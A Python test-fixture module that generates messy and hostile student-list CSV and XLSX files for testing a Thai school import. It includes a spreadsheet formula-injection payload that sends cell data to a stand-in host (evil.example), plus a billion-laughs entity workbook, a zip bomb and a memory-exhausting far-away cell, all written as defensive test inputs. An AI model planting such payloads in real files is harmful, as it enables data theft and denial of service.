"""A generator of ugly student-list files for the school import (issue 6, SPEC §8).

It starts from a valid synthetic file (``dmc.demo.synth.write_csv``: one school, DMC's 39
columns) and produces what schools really upload: other encodings (UTF-8 with a BOM, TIS-620 /
CP874, UTF-16), other delimiters, XLSX with typed cells (IDs as numbers, Excel serial dates),
Thai digits, CE dates, Excel-mangled IDs, stray whitespace, duplicates, broken rows, and hostile
files (zip bombs, XML entities, a far-away cell, binary junk, a renamed file). Every variant is a
function of the source, so a test knows exactly what each row should become.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import unicodedata
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook

from dmc.core.thai import to_thai_digits
from dmc.demo import synth
from dmc.exchange.format import HEADER
from dmc.schools.models import School, SchoolGrade

YEAR = 2564
COL = {name: i for i, name in enumerate(HEADER)}
# Python identifiers are NFKC-normalised (sara am ำ becomes ํ + า), so keyword arguments named
# after Thai columns are looked up in their NFKC form
_COL_NFKC = {unicodedata.normalize("NFKC", name): i for i, name in enumerate(HEADER)}
EXCEL_EPOCH = dt.date(1899, 12, 30)


@dataclass
class Source:
    """A valid file of one synthetic school: the header, the rows (as DMC writes them) and the
    students behind them (what each row must become)."""

    school: synth.SynthSchool
    header: list[str]
    rows: list[list[str]]
    students: list[synth.SynthStudent] = field(default_factory=list)

    def copy_rows(self) -> list[list[str]]:
        return [list(r) for r in self.rows]


def source(students: int = 20, seed: int = 7, year: int = YEAR) -> Source:
    """The synthetic file of one school with ``students`` rows (its SMIS code is 10010001, the
    ``world`` fixture's school A1)."""
    buffer = io.StringIO()
    synth.write_csv(buffer, schools=1, students=students, seed=seed, year=year)
    header, *rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    _, (school,) = synth.plan(1, students, seed)
    people = list(synth.students_of(school, seed=seed, year=year, first_index=0))
    assert len(people) == len(rows) == students
    return Source(school, header, rows, people)


def fit_school(school: School, plan: synth.SynthSchool, year: int = YEAR) -> None:
    """Give ``school`` at least the grades and rooms the synthetic school has."""
    for grade, rooms in plan.rooms.items():
        sg, created = SchoolGrade.objects.get_or_create(
            school=school, academic_year=year, grade=grade, defaults={"rooms": max(rooms, 1)}
        )
        if not created and sg.rooms < rooms:
            sg.rooms = rooms
            sg.save()


# --- writers ---


def to_csv(
    header: list[str],
    rows: Iterable[list[Any]],
    *,
    encoding: str = "utf-8",
    bom: bool = False,
    delimiter: str = ",",
    newline: str = "\r\n",
) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
    data = out.getvalue().encode(encoding)
    return (b"\xef\xbb\xbf" + data) if bom else data


def to_xlsx(header: list[str], rows: Iterable[list[Any]]) -> bytes:
    """An XLSX workbook (openpyxl) with the cells as given: str, int, float, date."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "students"
    ws.append(header)
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def typed(row: list[str], *, serial_dates: bool = False) -> list[Any]:
    """A row as Excel holds it after someone typed it in: the ID, room and student number as
    numbers (the ID loses a leading zero), the birth date as a date cell (or its serial number),
    weight and height as numbers."""
    out: list[Any] = list(row)
    pid = row[COL["เลขประจำตัวประชาชน"]]
    if pid.isdigit():
        out[COL["เลขประจำตัวประชาชน"]] = int(pid)
    out[COL["ห้อง"]] = int(row[COL["ห้อง"]])
    out[COL["เลขประจำตัวนักเรียน"]] = int(row[COL["เลขประจำตัวนักเรียน"]])
    birth = be_date(row[COL["วันเกิด"]])
    out[COL["วันเกิด"]] = (birth - EXCEL_EPOCH).days if serial_dates else birth
    for name in ("น้ำหนัก", "ส่วนสูง"):
        if row[COL[name]]:
            out[COL[name]] = float(row[COL[name]])
    return out


def be_date(text: str) -> dt.date:
    d, m, y = (int(x) for x in text.split("/"))
    return dt.date(y - 543, m, d)


# --- row mutations (return a changed copy) ---


def with_cells(row: list[str], **cells: Any) -> list[Any]:
    """``with_cells(row, ชั้น="ม.9")`` (Thai column names as keyword arguments)."""
    out: list[Any] = list(row)
    for name, value in cells.items():
        out[_COL_NFKC[unicodedata.normalize("NFKC", name)]] = value
    return out


def thai_digits(row: list[str]) -> list[str]:
    """ID, room, student number, birth date, weight and height in Thai digits."""
    out = list(row)
    for name in ("เลขประจำตัวประชาชน", "ห้อง", "เลขประจำตัวนักเรียน", "วันเกิด", "น้ำหนัก", "ส่วนสูง"):
        out[COL[name]] = to_thai_digits(out[COL[name]])
    return out


def ce_date(row: list[str]) -> list[str]:
    """The birth date with a Christian-era year (dd/mm/yyyy)."""
    birth = be_date(row[COL["วันเกิด"]])
    return with_cells(row, วันเกิด=f"{birth.day:02d}/{birth.month:02d}/{birth.year}")


def serial_date(row: list[str]) -> list[str]:
    """The birth date as the Excel serial number a CSV saved from Excel may carry."""
    birth = be_date(row[COL["วันเกิด"]])
    return with_cells(row, วันเกิด=str((birth - EXCEL_EPOCH).days))


def scientific_id(row: list[str], *, digits: int = 12) -> list[str]:
    """The ID as Excel writes a big number to CSV: ``1.103700123451E+12`` (12 decimals keep all
    13 digits; fewer lose some)."""
    pid = row[COL["เลขประจำตัวประชาชน"]]
    return with_cells(row, เลขประจำตัวประชาชน=f"{int(pid):.{digits}E}")


def spaced(row: list[str]) -> list[str]:
    """Stray whitespace everywhere a hand-edited file has it (and a dashed, spaced ID)."""
    pid = row[COL["เลขประจำตัวประชาชน"]]
    dashed = f" {pid[0]}-{pid[1:5]}-{pid[5:10]}-{pid[10:12]}-{pid[12]} "
    first = row[COL["ชื่อ"]]
    return with_cells(
        row,
        เลขประจำตัวประชาชน=dashed,
        ชั้น=f"  {row[COL['ชั้น']]} ",
        ชื่อ=f" {first}\u00a0 ",
        นามสกุล=f"{row[COL['นามสกุล']]}   ",
        เพศ=f" {row[COL['เพศ']]}",
        วันเกิด=f" {row[COL['วันเกิด']]}\t",
    )


def formula(row: list[str]) -> list[str]:
    """A cell a spreadsheet would run (formula injection) in the father's name."""
    return with_cells(row, ชื่อบิดา='=HYPERLINK("http://evil.example/?x="&A1,"คลิก")')


# --- hostile files ---


def xml_entity_xlsx(valid_xlsx: bytes) -> bytes:
    """The workbook with a DOCTYPE declaring an entity (billion-laughs style) in a part."""
    src = zipfile.ZipFile(io.BytesIO(valid_xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, _, rest = data.partition(b"?>")
                data = (
                    head
                    + b'?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
                    + rest
                )
            dst.writestr(info, data)
    return out.getvalue()


def zip_bomb_xlsx(megabytes: int = 60) -> bytes:
    """A tiny zip whose one entry expands to ``megabytes`` of one repeated byte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types/>')
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            block = b" " * (1024 * 1024)
            for _ in range(megabytes):
                fh.write(block)
    return out.getvalue()


def far_cell_xlsx(header: list[str], rows: list[list[str]]) -> bytes:
    """A valid workbook plus one cell at XFD1048576: calamine would allocate the whole
    1,048,576 × 16,384 rectangle (550 GB) and abort the process."""
    wb = load_workbook(io.BytesIO(to_xlsx(header, rows)))
    ws = wb.active
    assert ws is not None
    ws.cell(row=1_048_576, column=16_384, value="x")
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def binary_junk(size: int = 4096, seed: int = 1) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


def oversized_csv(path: Path, header: list[str], row: list[str], size: int) -> Path:
    """A CSV just over ``size`` bytes (the same row over and over)."""
    line = (",".join(row) + "\r\n").encode("utf-8")
    with path.open("wb") as fh:
        fh.write((",".join(header) + "\r\n").encode("utf-8"))
        written = 0
        while written <= size:
            fh.write(line)
            written += len(line)
    return path


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


Mutation = Callable[[list[str]], list[Any]]


def decimal(text: str) -> Decimal | None:
    return Decimal(text) if text else None
